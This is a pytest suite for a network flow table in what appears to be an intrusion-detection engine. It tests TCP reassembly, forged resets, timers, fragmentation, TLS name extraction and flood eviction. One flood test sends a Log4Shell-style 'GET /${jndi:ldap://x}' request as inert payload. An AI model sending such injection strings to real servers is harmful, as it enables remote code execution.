"""Tests of the flow table."""

from __future__ import annotations

import dataclasses
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.flow import SCAN_BYTES, FlowTable
from engine.packet import Packet, parse
from engine.types import Capture, Direction, FiveTuple, Flow, FlowState, FlowUpdate, Frame, UpdateReason
from tests.factories import ACK, ATTACKER, FIN, PSH, RST, SERVER, SYN, frame, ipv4, tcp, udp

R = UpdateReason


def table(**limits: int) -> FlowTable:
    return FlowTable(Capture("eth0", 1), **limits)


class Connection:
    """Makes the frames of one TCP connection, a millisecond apart."""

    def __init__(self, sport: int = 40000, start: float = 1000.0, client: str = ATTACKER, dport: int = 80) -> None:
        self.now = start
        self.client = client
        self.ports = (sport, dport)
        self.seq = [100, 2**32 - 3]

    def up(self, payload: bytes = b"", flags: int = ACK, seq: int | None = None) -> Frame:
        return self._send(0, payload, flags, seq)

    def down(self, payload: bytes = b"", flags: int = ACK, seq: int | None = None) -> Frame:
        return self._send(1, payload, flags, seq)

    def handshake(self) -> list[Frame]:
        return [self.up(flags=SYN), self.down(flags=SYN | ACK), self.up()]

    def _send(self, side: int, payload: bytes, flags: int, seq: int | None) -> Frame:
        self.now += 0.001
        ports = self.ports if side == 0 else self.ports[::-1]
        ends = (self.client, SERVER) if side == 0 else (SERVER, self.client)
        ack = self.seq[1 - side] if flags & ACK else 0
        segment = tcp(*ports, self.seq[side] if seq is None else seq, ack, flags, payload)
        if seq is None:
            self.seq[side] = (self.seq[side] + len(payload) + bool(flags & (SYN | FIN))) % 2**32
        return frame(ipv4(segment, src=ends[0], dst=ends[1]), self.now)


def feed(flows: FlowTable, frames: list[Frame]) -> list[FlowUpdate]:
    return [update for one in frames for update in flows.add(one)]


def reasons(updates: list[FlowUpdate]) -> list[UpdateReason]:
    return [update.reason for update in updates]


def payload(updates: list[FlowUpdate], direction: Direction = Direction.TO_SERVER) -> bytes:
    return b"".join(update.chunk for update in updates if update.direction is direction)


def datagram(
    sport: int, dport: int, body: bytes = b"", ts: float = 1000.0, src: str = ATTACKER, dst: str = SERVER
) -> Frame:
    return frame(ipv4(udp(sport, dport, body), 17, src, dst), ts)


def test_a_connection_is_told_from_its_first_packet_to_its_end() -> None:
    link = Connection()
    flows = table()
    request = b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n"
    updates = feed(flows, [*link.handshake(), link.up(request), link.down(b"HTTP/1.1 200 OK\r\n\r\n")])
    updates += feed(flows, [link.up(flags=FIN | ACK), link.down(flags=FIN | ACK), link.up()])
    assert reasons(updates) == [R.NEW, R.PAYLOAD, R.PAYLOAD, R.END]
    last = updates[-1].flow
    assert last.five_tuple == FiveTuple(ATTACKER, 40000, SERVER, 80, "tcp")
    assert (last.state, last.handshake, last.app, last.name) == (FlowState.CLOSED, True, "http", "shop.example")
    assert (last.packets, last.payload_bytes) == ((4, 3), (len(request), 19))
    assert last.head == (request, b"HTTP/1.1 200 OK\r\n\r\n")
    assert len(flows) == 0


def test_payload_arrives_in_sequence_order_whatever_the_order_of_packets() -> None:
    link = Connection()
    flows = table()
    feed(flows, link.handshake())
    segments = [link.up(bytes([65 + number]) * 10) for number in range(20)]
    random.Random(3).shuffle(segments)
    updates = feed(flows, segments)
    assert payload(updates) == b"".join(bytes([65 + number]) * 10 for number in range(20))
    offsets = [(update.offset, len(update.chunk)) for update in updates if update.reason is R.PAYLOAD]
    assert [offset for offset, _ in offsets] == [sum(n for _, n in offsets[:i]) for i in range(len(offsets))]


def test_retransmissions_are_counted_once_as_payload_and_each_as_packet() -> None:
    link = Connection()
    flows = table()
    feed(flows, link.handshake())
    again = link.up(b"abc")
    updates = feed(flows, [again, again, again])
    assert payload(updates) == b"abc"
    assert (flows.recent(1)[0].payload_bytes, flows.recent(1)[0].packets) == ((3, 0), (5, 1))


def test_two_connections_from_one_host_are_two_flows() -> None:
    flows = table()
    one, two = Connection(40000), Connection(40001)
    updates = feed(flows, [*one.handshake(), *two.handshake(), one.up(b"one"), two.up(b"two")])
    assert len({update.flow.id for update in updates}) == 2
    assert {flow.head[0] for flow in flows.recent(9)} == {b"one", b"two"}


def test_the_sender_of_a_syn_ack_is_the_responder() -> None:
    link = Connection(sport=80, dport=40000)
    flows = table()
    feed(flows, [link.down(flags=SYN | ACK), link.up()])
    assert flows.recent(1)[0].five_tuple.src_ip == ATTACKER
    assert not flows.recent(1)[0].handshake


@pytest.mark.parametrize("first_is_reply", [False, True])
def test_in_a_connection_joined_late_the_lower_port_is_the_responder(first_is_reply: bool) -> None:
    link = Connection()
    flows = table()
    updates = flows.add(link.down(b"reply") if first_is_reply else link.up(b"ask"))
    assert updates[0].flow.five_tuple == FiveTuple(ATTACKER, 40000, SERVER, 80, "tcp")
    assert updates[-1].flow.state is FlowState.ESTABLISHED
    assert updates[-1].direction is (Direction.TO_CLIENT if first_is_reply else Direction.TO_SERVER)


def test_data_without_a_handshake_is_read_from_where_it_begins() -> None:
    link = Connection()
    flows = table()
    assert payload(feed(flows, [link.up(b"ab"), link.up(b"cd")])) == b"abcd"
    assert not flows.recent(1)[0].handshake


def test_a_blind_sender_completes_no_handshake() -> None:
    link = Connection()
    flows = table()
    feed(flows, [link.up(flags=SYN), link.down(flags=SYN | ACK)])
    link.seq[1] = 77777
    feed(flows, [link.up(b"evil", flags=PSH | ACK)])
    assert not flows.recent(1)[0].handshake


def test_a_reset_ends_the_flow_after_what_was_held_back() -> None:
    link = Connection()
    flows = table()
    feed(flows, link.handshake())
    link.up(b"lost")
    updates = feed(flows, [link.up(b"kept"), link.down(flags=RST)])
    assert reasons(updates) == [R.PAYLOAD, R.END]
    assert updates[0].chunk == b"kept"
    assert updates[1].flow.state is FlowState.RESET


def test_a_syn_after_the_end_starts_a_new_flow() -> None:
    flows = table()
    one = Connection()
    feed(flows, [one.up(flags=SYN), one.down(flags=RST | ACK)])
    two = Connection(start=1001.0)
    two.seq[0] = 90000
    updates = feed(flows, [*two.handshake(), two.up(b"hi")])
    assert reasons(updates) == [R.NEW, R.PAYLOAD]
    assert updates[-1].flow.handshake


def test_stragglers_of_an_ended_flow_open_no_flow() -> None:
    flows = table()
    link = Connection()
    feed(flows, link.handshake())
    said = link.up(b"said before")
    feed(flows, [said, link.up(flags=FIN | ACK), link.down(flags=FIN | ACK)])
    assert feed(flows, [link.up(), said, link.down(flags=RST)]) == []


def test_data_after_a_forged_reset_is_still_read() -> None:
    flows = table()
    link = Connection()
    feed(flows, [*link.handshake(), link.up(flags=RST, seq=5)])
    updates = feed(flows, [link.up(b"attack")])
    assert payload(updates) == b"attack"
    assert updates[-1].flow.five_tuple.src_ip == ATTACKER


def test_a_hole_that_the_receiver_acknowledged_is_skipped() -> None:
    flows = table()
    link = Connection()
    feed(flows, link.handshake())
    link.up(b"missed by the capture")
    updates = feed(flows, [link.up(b"seen"), link.down()])
    assert payload(updates) == b"seen"


def test_a_window_is_told_once_when_the_head_is_full() -> None:
    flows = table()
    link = Connection()
    feed(flows, link.handshake())
    updates = feed(flows, [link.up(b"x" * 300) for _ in range(4)])
    assert reasons(updates) == [R.PAYLOAD, R.PAYLOAD, R.WINDOW, R.PAYLOAD, R.PAYLOAD]
    assert updates[2].direction is Direction.TO_SERVER
    assert len(updates[2].flow.head[0]) == 512
    assert flows.advance(link.now + 5) == []


def test_quiet_is_told_a_second_after_payload_and_once() -> None:
    flows = table()
    link = Connection()
    feed(flows, [*link.handshake(), link.up(b"hello")])
    assert flows.advance(link.now + 0.9) == []
    updates = flows.advance(link.now + 1.1)
    assert reasons(updates) == [R.QUIET]
    assert updates[0].at == pytest.approx(link.now + 1)
    assert flows.advance(link.now + 30) == []


def test_more_payload_after_quiet_is_followed_by_quiet_again() -> None:
    flows = table()
    link = Connection()
    feed(flows, [*link.handshake(), link.up(b"hello")])
    flows.advance(link.now + 2)
    link.now += 2
    assert reasons(flows.add(link.up(b"more"))) == [R.PAYLOAD]
    assert reasons(flows.advance(link.now + 2)) == [R.QUIET]


def test_another_flows_packet_lets_time_pass() -> None:
    flows = table()
    flows.add(datagram(1000, 9, b"hello", ts=1000.0))
    updates = flows.add(datagram(1001, 9, ts=1061.0))
    assert reasons(updates) == [R.QUIET, R.IDLE, R.NEW]
    assert [update.at for update in updates[:2]] == [1001.0, 1060.0]


def test_an_idle_connection_that_goes_on_keeps_its_initiator_and_handshake() -> None:
    flows = table()
    link = Connection(sport=40, dport=50000)
    feed(flows, link.handshake())
    assert reasons(flows.advance(link.now + 61)) == [R.IDLE]
    link.now += 61
    updates = feed(flows, [link.up(b"beacon "), link.up(b"and more")])
    assert payload(updates) == b"beacon and more"
    again = updates[-1].flow
    assert (again.five_tuple.src_port, again.handshake) == (40, True)


def test_after_the_scan_depth_chunks_stop_and_counting_goes_on() -> None:
    flows = table()
    link = Connection()
    feed(flows, link.handshake())
    updates = feed(flows, [link.down(b"x" * 1400) for _ in range(200)])
    told = len(payload(updates, Direction.TO_CLIENT))
    assert SCAN_BYTES[1] <= told < SCAN_BYTES[1] + 1400
    assert flows.recent(1)[0].payload_bytes == (0, 280_000)


def test_flush_tells_every_flow() -> None:
    flows = table()
    feed(flows, [datagram(1000, 9, b"a"), datagram(1001, 9)])
    assert reasons(flows.flush()) == [R.FLUSH, R.FLUSH]
    assert len(flows) == 0
    assert flows.flush() == []


def test_each_datagram_is_a_chunk_and_an_answer_makes_the_flow_established() -> None:
    flows = table()
    ask, reply = datagram(4000, 5000, b"ask"), datagram(5000, 4000, b"reply", src=SERVER, dst=ATTACKER)
    updates = feed(flows, [ask, reply, ask])
    assert [update.chunk for update in updates[1:]] == [b"ask", b"reply", b"ask"]
    assert (updates[1].flow.state, updates[2].flow.state) == (FlowState.NEW, FlowState.ESTABLISHED)
    assert updates[-1].offset == 3


def test_a_name_server_whose_question_was_missed_is_the_responder() -> None:
    flows = table()
    flows.add(datagram(53, 40000, b"reply", src=SERVER, dst=ATTACKER))
    assert flows.recent(1)[0].five_tuple == FiveTuple(ATTACKER, 40000, SERVER, 53, "udp")


def test_ping_and_its_answer_are_one_flow_and_their_payload_is_told() -> None:
    flows = table()
    updates = feed(
        flows, [frame(ipv4(b"\x08\0\0\0\0\1\0\1ping", 1)), frame(ipv4(b"\0\0\0\0\0\1\0\1pong", 1, SERVER, ATTACKER))]
    )
    assert [update.chunk for update in updates] == [b"", b"ping", b"pong"]
    assert updates[0].flow.five_tuple == FiveTuple(ATTACKER, 8, SERVER, 0, "icmp")


def test_errors_in_both_directions_are_two_flows() -> None:
    flows = table()
    body = b"\x03\x03" + bytes(6)
    feed(flows, [frame(ipv4(body, 1)), frame(ipv4(body, 1, SERVER, ATTACKER))])
    assert len(flows) == 2


def test_a_fragmented_datagram_is_one_chunk() -> None:
    flows = table()
    whole = udp(4000, 53, b"q" * 100)
    pieces = [(whole[64:], 8), (whole[:32], 0x2000), (whole[32:64], 0x2000 | 4)]
    updates = feed(flows, [frame(ipv4(part, 17, place=place)) for part, place in pieces])
    assert reasons(updates) == [R.NEW, R.PAYLOAD]
    assert updates[1].chunk == b"q" * 100
    assert flows.parsed == 3


def test_a_server_name_is_found_in_a_hello_of_several_segments() -> None:
    flows = table()
    link = Connection(dport=443)
    feed(flows, link.handshake())
    extensions = b"\x00\x15\x07\x00" + bytes(0x700) + b"\x00\x00\x00\x10\x00\x0e\x00\x00\x0bwww.example"
    body = b"\x03\x03" + bytes(32) + b"\0\x00\x02\x13\x01\x01\x00" + len(extensions).to_bytes(2, "big") + extensions
    hello = b"\x16\x03\x01" + (len(body) + 4).to_bytes(2, "big") + b"\x01" + len(body).to_bytes(3, "big") + body
    updates = feed(flows, [link.up(hello[:600]), link.up(hello[600:1200]), link.up(hello[1200:])])
    assert (updates[0].flow.app, updates[0].flow.name) == ("tls", "")
    assert updates[-1].flow.name == "www.example"


def test_one_packet_flows_are_evicted_first_and_oldest_first() -> None:
    flows = table(max_flows=4)
    link = Connection()
    feed(flows, link.handshake())
    updates = feed(flows, [datagram(1000 + number, 9, ts=1000.1) for number in range(6)])
    gone = [update.flow.five_tuple.src_port for update in updates if update.reason is R.EVICTED]
    assert gone == [1000, 1001, 1002]
    assert (len(flows), flows.evicted, flows.emergency) == (4, 3, True)
    assert 40000 in {flow.five_tuple.src_port for flow in flows.recent(9)}


def test_without_one_packet_flows_the_least_recently_active_goes() -> None:
    flows = table(max_flows=2)
    old, busy = Connection(40000), Connection(40001)
    feed(flows, [*old.handshake(), *busy.handshake(), old.up(b"still here")])
    updates = flows.add(datagram(1000, 9, ts=1001.0))
    assert [u.flow.five_tuple.src_port for u in updates if u.reason is R.EVICTED] == [40001]


def test_recent_lists_the_last_active_first() -> None:
    flows = table()
    link = Connection()
    feed(flows, [*link.handshake(), datagram(1, 9, ts=1005.0), datagram(2, 9, ts=1006.0)])
    assert [flow.five_tuple.src_port for flow in flows.recent(2)] == [2, 1]
    flows.add(link.up())
    assert len(flows.recent(9)) == 3


def test_time_that_runs_backwards_stops_no_timer() -> None:
    flows = table()
    flows.add(datagram(1, 9, b"far ahead", ts=1e9))
    updates = flows.add(datagram(2, 9, b"back", ts=1000.0))
    assert reasons(updates) == [R.NEW, R.PAYLOAD]
    later = flows.advance(1002.0)
    assert reasons(later) == [R.QUIET, R.QUIET]
    assert later[1].at == pytest.approx(1001.0)
    assert reasons(flows.advance(1061.0)) == [R.IDLE, R.IDLE]


def test_every_frame_is_counted_once() -> None:
    flows = table()
    feed(flows, [datagram(1, 9), Frame(1.0, b"\x02" * 12 + b"\x08\x06" + bytes(46), 60), Frame(1.0, b"", 0)])
    assert (flows.parsed, flows.filtered, flows.malformed, flows.flows_total) == (1, 1, 1, 1)


def test_a_snapshot_is_a_flow_in_every_respect() -> None:
    flows = table()
    shown = flows.add(datagram(1, 9, b"x"))[0].flow
    rebuilt = Flow(**{field.name: getattr(shown, field.name) for field in dataclasses.fields(Flow)})
    assert (shown, hash(shown), type(shown)) == (rebuilt, hash(rebuilt), Flow)
    with pytest.raises(dataclasses.FrozenInstanceError):
        shown.name = "changed"  # type: ignore[misc]  # the point of the test


def test_all_flows_together_hold_a_bounded_amount() -> None:
    flows = table(max_held_bytes=10_000)
    updates = []
    for number in range(20):
        link = Connection(40000 + number, client=f"198.18.0.{number}")
        feed(flows, link.handshake())
        link.up(b"hole")
        updates += feed(flows, [link.up(b"x" * 1000)])
    assert len(payload(updates)) == 10_000
    assert len(payload(flows.flush())) == 10_000


SCRIPT = """
import resource, struct
from engine.flow import FlowTable
from engine.types import Capture, Frame, UpdateReason
from tests.engine.test_flow import Connection, payload, reasons
flows = FlowTable(Capture("eth0", 1), max_flows=8192)
link = Connection()
told = [update for one in link.handshake() for update in flows.add(one)]
start = bytes(12) + b"\\x08\\x00" + struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0)
end = bytes([192, 0, 2, 1]) + struct.pack(">HHIIBBHHH", 1024, 80, 1, 0, 0x50, 2, 0, 0, 0)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for number in range(1, COUNT):
    flows.add(Frame(1001 + number * 1e-5, start + number.to_bytes(4, "big") + end, 54))
link.now = 1001 + COUNT * 1e-5
told += flows.add(link.up(b"GET /${jndi:ldap://x} HTTP/1.1\\r\\n\\r\\n")) + flows.advance(link.now + 2)
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(grown, len(flows), flows.evicted, ",".join(reasons(told)), payload(told).decode().strip())
"""


def test_a_flood_of_one_packet_sources_stays_bounded_and_a_real_flow_is_judged() -> None:
    count = int(os.environ.get("AEGIS_FLOOD_SOURCES", "100000"))
    run = subprocess.run(
        [sys.executable, "-c", SCRIPT.replace("COUNT", str(count))],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).parents[2],
    )
    grown_kib, now, evicted, told, request = run.stdout.split(maxsplit=4)
    assert int(grown_kib) < 64 * 1024
    assert (int(now), int(evicted)) == (8192, count - 8192)
    assert told == "new,payload,quiet"
    assert request.startswith("GET /${jndi")


BODIES = st.one_of(
    st.binary(max_size=80),
    st.builds(
        lambda ports, seq, ack, flags, body: ipv4(tcp(ports[0], ports[1], seq, ack, flags, body)),
        st.sampled_from([(1, 80), (80, 1)]),
        st.integers(0, 2**32 - 1) | st.integers(0, 20),
        st.integers(0, 2**32 - 1) | st.integers(0, 20),
        st.integers(0, 63),
        st.binary(max_size=20),
    ),
    st.builds(
        lambda place, ident, proto, body: ipv4(body, proto, place=place, ident=ident),
        st.integers(0, 0x2004),
        st.integers(0, 2),
        st.sampled_from([1, 6, 17]),
        st.binary(max_size=40),
    ),
)


@settings(max_examples=200)
@given(st.lists(st.tuples(BODIES, st.floats(-1e10, 1e10) | st.floats(1000, 1100)), max_size=25))
def test_no_frames_make_the_table_raise_and_every_flow_is_told_to_its_end(frames: list[tuple[bytes, float]]) -> None:
    flows = table(max_flows=3)
    updates = feed(flows, [frame(body, ts) for body, ts in frames]) + flows.flush()
    leaving = {R.END, R.IDLE, R.EVICTED, R.FLUSH}
    assert reasons(updates).count(R.NEW) == sum(reason in leaving for reason in reasons(updates)) == flows.flows_total
    assert flows.parsed + flows.filtered + flows.malformed == len(frames)


@given(st.lists(st.binary(max_size=80), max_size=10), st.sampled_from([0, 1, 12, 101, 108, 113, 276]))
def test_no_bytes_of_any_link_layer_make_the_table_raise(frames: list[bytes], linktype: int) -> None:
    flows = FlowTable(Capture("any", linktype))
    updates = feed(flows, [Frame(1.0, one, len(one)) for one in frames])
    assert bool(updates) == any(
        isinstance(packet, Packet) and packet.fragment is None for packet in (parse(one, linktype) for one in frames)
    )
